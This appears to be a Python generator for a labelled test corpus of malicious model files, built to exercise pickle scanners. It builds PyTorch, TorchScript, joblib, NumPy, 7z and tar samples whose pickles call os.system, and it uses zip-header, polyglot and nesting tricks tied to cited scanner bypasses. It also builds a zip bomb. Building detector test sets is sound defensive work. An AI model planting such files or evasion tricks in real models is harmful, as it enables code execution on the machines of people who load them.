"""Malicious container samples: PyTorch zip tricks, legacy torch, joblib, npy, 7z, nesting, bombs."""

from __future__ import annotations

import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from functools import cache
from pathlib import Path

from corpus_pickles import write
from corpus_registry import malicious
from picklekit import PAYLOAD_CMD, call_global, program, system_pickle

# --- building blocks ----------------------------------------------------------------------------


@cache
def benign_torch_zip() -> bytes:
    """A real ``torch.save`` of a tiny state dict (bytes, cached)."""
    import torch

    buf = io.BytesIO()
    torch.save({"weight": torch.arange(6, dtype=torch.float32).reshape(2, 3), "bias": torch.zeros(2)}, buf)
    return buf.getvalue()


def replace_members(
    archive: bytes, replacements: dict[str, bytes], *, first: dict[str, bytes] | None = None
) -> bytes:
    """Copy a zip (stored), swapping members whose name ends with a key of ``replacements``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for name, data in (first or {}).items():
            dst.writestr(name, data)
        for info in src.infolist():
            data = src.read(info.filename)
            for suffix, new in replacements.items():
                if info.filename.endswith(suffix):
                    data = new
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def torch_zip_with(pickle_bytes: bytes) -> bytes:
    """A real torch zip checkpoint whose ``data.pkl`` is ``pickle_bytes``."""
    return replace_members(benign_torch_zip(), {"/data.pkl": pickle_bytes})


def _headers(archive: bytes, name: str) -> tuple[int, int]:
    """Offsets of the local header and the central-directory header of member ``name``."""
    with zipfile.ZipFile(io.BytesIO(archive)) as zf:
        local = zf.getinfo(name).header_offset
    encoded = name.encode()
    pos = archive.rfind(b"PK\x01\x02")
    while pos != -1:
        (name_len,) = struct.unpack_from("<H", archive, pos + 28)
        if archive[pos + 46 : pos + 46 + name_len] == encoded:
            return local, pos
        pos = archive.rfind(b"PK\x01\x02", 0, pos)
    raise KeyError(name)


def _data_pkl_name(archive: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(archive)) as zf:
        return next(n for n in zf.namelist() if n.endswith("/data.pkl"))


def patch_member(archive: bytes, name: str, *, flags: int | None = None, crc: int | None = None) -> bytes:
    """Set the general-purpose flags and/or CRC of ``name`` in both its local and central headers."""
    buf = bytearray(archive)
    local, central = _headers(archive, name)
    if flags is not None:
        struct.pack_into("<H", buf, local + 6, flags)
        struct.pack_into("<H", buf, central + 8, flags)
    if crc is not None:
        struct.pack_into("<I", buf, local + 14, crc)
        struct.pack_into("<I", buf, central + 16, crc)
    return bytes(buf)


# --- PyTorch zip --------------------------------------------------------------------------------


@malicious(
    "torch-zip-reduce", "torch-zip", "CWE-502", "real torch zip checkpoint whose data.pkl calls os.system"
)
def _torch_zip(out: Path) -> Path:
    return write(out, "torch_reduce.pt", torch_zip_with(system_pickle(2)))


@malicious(
    "zip-name-mismatch", "torch-zip", "CVE-2025-1944", "local header name differs from the central one"
)
def _name_mismatch(out: Path) -> Path:
    archive = torch_zip_with(system_pickle(2))
    name = _data_pkl_name(archive)
    local, _ = _headers(archive, name)
    buf = bytearray(archive)
    bad = name[:-3] + "pkx"
    buf[local + 30 : local + 30 + len(name)] = bad.encode()
    return write(out, "name_mismatch.pt", bytes(buf))


@malicious("zip-flag-bits", "torch-zip", "CVE-2025-1945", "data.pkl with the 'encrypted' flag bit set")
def _flag_bits(out: Path) -> Path:
    archive = torch_zip_with(system_pickle(2))
    return write(out, "flag_bits.pt", patch_member(archive, _data_pkl_name(archive), flags=0x0001))


@malicious("zip-bad-crc", "torch-zip", "CVE-2025-10156", "data.pkl with a wrong CRC-32 (torch ignores it)")
def _bad_crc(out: Path) -> Path:
    archive = torch_zip_with(system_pickle(2))
    return write(out, "bad_crc.pt", patch_member(archive, _data_pkl_name(archive), crc=0xDEADBEEF))


@malicious(
    "zip-corrupt-entry-first", "torch-zip", "modelscan#354", "a corrupt member before archive/data.pkl"
)
def _corrupt_first(out: Path) -> Path:
    archive = replace_members(
        benign_torch_zip(), {"/data.pkl": system_pickle(2)}, first={"archive/.aaa_corrupt": b"x" * 64}
    )
    return write(out, "corrupt_first.pt", patch_member(archive, "archive/.aaa_corrupt", crc=0x12345678))


@malicious(
    "polyglot-prefix", "torch-zip", "fickling polyglot", "os.system pickle prepended to a valid torch zip"
)
def _polyglot(out: Path) -> Path:
    return write(out, "polyglot.pt", system_pickle(2) + benign_torch_zip())


@malicious(
    "torchscript-constants",
    "torchscript",
    "CWE-502",
    "TorchScript archive whose constants.pkl runs os.system",
)
def _torchscript(out: Path) -> Path:
    from corpus_benign import torchscript_bytes

    return write(
        out, "torchscript_evil.pt", replace_members(torchscript_bytes(), {"/constants.pkl": system_pickle(2)})
    )


# --- legacy torch, joblib, numpy ----------------------------------------------------------------


def legacy_torch(payload: bytes) -> bytes:
    """The legacy (non-zip) torch layout: magic, protocol version, sys_info, then ``payload``."""
    # Dumping plain constants is safe; only the payload is hand-assembled.
    sys_info = {
        "protocol_version": 1001,
        "little_endian": True,
        "type_sizes": {"short": 2, "int": 4, "long": 4},
    }
    head = b"".join(pickle.dumps(v, protocol=2) for v in (0x1950A86A20F9469CFC6C, 1001, sys_info))
    return head + payload + pickle.dumps([], protocol=2)


@malicious(
    "torch-legacy-payload", "torch-legacy", "modelscan gap", "legacy (non-zip) torch file, payload object"
)
def _legacy(out: Path) -> Path:
    return write(out, "legacy_evil.pt", legacy_torch(system_pickle(2)))


@malicious("joblib-compressed-payload", "joblib", "picklescan gap", "zlib-compressed joblib with os.system")
def _joblib(out: Path) -> Path:
    return write(out, "model_evil.joblib", zlib.compress(system_pickle(4), 3))


def npy_object(payload: bytes) -> bytes:
    """An ``.npy`` header for a 1-element object array followed by ``payload`` (the pickled data)."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - (10 + len(header) + 1) % 64
    text = (header + " " * pad + "\n").encode("latin1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + payload


@malicious("npy-object-payload", "numpy", "CWE-502", "object-dtype .npy whose pickled data calls os.system")
def _npy(out: Path) -> Path:
    return write(out, "evil.npy", npy_object(system_pickle(3)))


# --- archives -----------------------------------------------------------------------------------


@malicious(
    "nullifai-7z-broken",
    "7z",
    "nullifAI (ReversingLabs 2025)",
    "torch archive re-packed as 7z, broken pickle",
)
def _nullifai(out: Path) -> Path:
    import py7zr

    broken = (
        program(call_global("os", "system", PAYLOAD_CMD, protocol=2), protocol=2, stop=False) + b"\x00garbage"
    )
    path = out / "nullifai.7z"
    with zipfile.ZipFile(io.BytesIO(benign_torch_zip())) as zf, py7zr.SevenZipFile(path, "w") as sz:
        for name in zf.namelist():
            sz.writestr(broken if name.endswith("/data.pkl") else zf.read(name), name)
    return path


@malicious("tar-gz-nested", "tar.gz", "nesting", "os.system pickle inside a .tar.gz")
def _targz(out: Path) -> Path:
    path = out / "nested.tar.gz"
    data = system_pickle(2)
    with tarfile.open(path, "w:gz") as tf:
        info = tarfile.TarInfo("model/model.pkl")
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    return path


@malicious("zip-in-zip", "zip", "nesting", "torch zip with a payload inside another zip")
def _zip_in_zip(out: Path) -> Path:
    inner = torch_zip_with(system_pickle(2))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("models/inner.zip", inner)
    return write(out, "zip_in_zip.zip", buf.getvalue())


@malicious("zip-bomb", "zip", "CWE-409", "256 MiB of zeros deflated to a few hundred KiB")
def _zip_bomb(out: Path) -> Path:
    path = out / "bomb.zip"
    chunk = bytes(1 << 20)
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf,
        zf.open("archive/data.pkl", "w") as fh,
    ):
        for _ in range(256):
            fh.write(chunk)
    return path


@malicious(
    "torch-tar-legacy",
    "torch-tar",
    "picklescan gap",
    "oldest torch tar layout whose 'pickle' member runs os.system",
)
def _torch_tar(out: Path) -> Path:
    path = out / "legacy_tar.pt"
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    members = {"sys_info": sys_info, "pickle": system_pickle(2), "storages": pickle.dumps(0, protocol=2)}
    with tarfile.open(path, "w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return path


@malicious("joblib-xz-payload", "joblib", "picklescan gap", "xz-compressed joblib with os.system")
def _joblib_xz(out: Path) -> Path:
    return write(out, "model_evil_xz.joblib", lzma.compress(system_pickle(4), format=lzma.FORMAT_XZ))


@malicious("npz-object-payload", "numpy", "CWE-502", ".npz whose arr_0.npy is an object array with a payload")
def _npz(out: Path) -> Path:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("arr_0.npy", npy_object(system_pickle(3)))
    return write(out, "evil.npz", buf.getvalue())
